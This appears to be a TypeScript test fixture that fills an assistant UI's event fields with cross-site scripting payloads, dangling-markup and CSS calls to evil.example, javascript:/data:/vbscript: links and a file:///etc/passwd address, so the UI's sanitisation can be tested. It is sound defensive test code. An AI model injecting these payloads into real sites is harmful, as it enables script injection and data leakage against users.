/** Events as a hostile customer, article, tool or lookup would fill them: markup, styles and addresses in every text. */
import type { AssistEvent } from '../../shared/assist/event.ts';
import * as fixtures from '../src/gallery/fixtures.ts';

const payloads = [
  '<img src=//evil.example/x onerror="document.title=\'owned\'">',
  '<script>document.title="owned"</script>',
  '"><svg/onload=document.title="owned">',
  '</style><style>*{background:url(//evil.example/css)}</style>',
  '<a href="javascript:document.title=\'owned\'">click</a>',
  "<img src='//evil.example/dangling?",
  '[click](javascript:alert(1)) ![x](//evil.example/md)',
  '{{constructor.constructor("document.title=\'owned\'")()}}',
];
const addresses = [
  'javascript:document.title="owned"',
  ' \u0001javascript:document.title="owned"',
  'java\nscript:document.title="owned"',
  'data:text/html,<script>opener.document.title="owned"</script>',
  'vbscript:owned',
  'file:///etc/passwd',
  'https://evil.example/"onclick="document.title=\'owned\'',
];

/** Fields that people or machines outside fill. Ids and codes of the service stay as they are. */
const texts = new Set(
  [
    'text',
    'title',
    'query',
    'rewritten',
    'label',
    'value',
    'snippet',
    'tooltip',
    'message',
    'description',
    'result',
  ].concat(['action', 'author', 'reason', 'name', 'language', 'queue']),
);

/** All of a call, its summary, an action and a context, each of their texts replaced. */
export function hostileEvents(): readonly AssistEvent[] {
  let at = 0;
  const next = (list: readonly string[]) => list[at++ % list.length]!;
  const poison = (value: unknown, field = ''): unknown => {
    if (Array.isArray(value)) return value.map((each) => poison(each, field === 'responses' ? 'text' : field));
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, poison(each, name)]));
    if (typeof value !== 'string') return value;
    if (field === 'uri') return next(addresses);
    return texts.has(field) ? next(payloads) : value;
  };
  const action: AssistEvent = {
    ...{ type: 'action', actionId: 'a1', name: 'return', title: 'Return', description: 'x', state: 'proposed' },
    parameters: [{ name: 'note', label: 'Note', value: 'x', editable: true }],
  };
  const uris: AssistEvent = {
    ...{ type: 'suggestion', suggestionId: 'links', kind: 'article', proactive: true, text: 'x', title: 'x' },
    sources: addresses.map(() => ({ title: 'x', uri: 'x', snippet: 'x' })),
  };
  const context: AssistEvent = { type: 'context', items: [{ label: 'x', value: 'x', source: 'customer' }] };
  const events = [...fixtures.wholeCall, fixtures.summary, fixtures.degraded, action, uris, context];
  // The reason of a hand-over is one of the service's own words.
  return events.map(
    (event) =>
      ({ ...(poison(event) as AssistEvent), ...('reason' in event && { reason: event.reason }) }) as AssistEvent,
  );
}
